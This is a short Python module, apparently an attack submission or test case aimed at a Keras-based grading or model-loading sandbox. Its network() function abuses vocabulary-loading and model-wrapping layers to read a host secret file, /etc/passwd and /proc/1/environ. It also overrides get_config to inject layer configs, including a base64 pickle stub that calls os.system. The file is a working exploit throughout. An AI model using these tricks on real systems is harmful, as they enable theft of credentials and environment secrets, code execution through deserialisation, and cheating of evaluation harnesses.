"""Answers with layers that read files or wrap other code: lookups, saved models, foreign modules.

gain: points, host, secret
"""

# %%
import os

os.environ["KERAS_BACKEND"] = "torch"


# %% network
def network():
    import keras

    paths = (HOST["root"] + "/secret.txt", "/etc/passwd", "/proc/1/environ")
    layers = []
    for path in paths:
        for build in (
            lambda path: keras.layers.StringLookup(vocabulary=path),
            lambda path: keras.layers.TextVectorization(vocabulary=path),
            lambda path: keras.layers.TFSMLayer(os.path.dirname(path)),
            lambda path: keras.layers.TorchModuleWrapper(path),
        ):
            try:
                layers.append(build(path))
                take(layers[-1].get_vocabulary())
            except Exception:
                pass
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(3), keras.layers.Dense(1)])
    said = [
        {"module": "keras.layers", "class_name": name, "config": {"vocabulary": paths[0]}}
        for name in ("StringLookup", "IntegerLookup", "TextVectorization")
    ]
    said += [
        {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": HOST["root"]}},
        {
            "module": "keras.layers",
            "class_name": "TorchModuleWrapper",
            "config": {"module": {"type": "pickle", "value": "Y29zCnN5c3RlbQo="}},
        },
    ]
    type(model).get_config = lambda self: {"name": "m", "trainable": True, "layers": said}
    return [model, *layers]
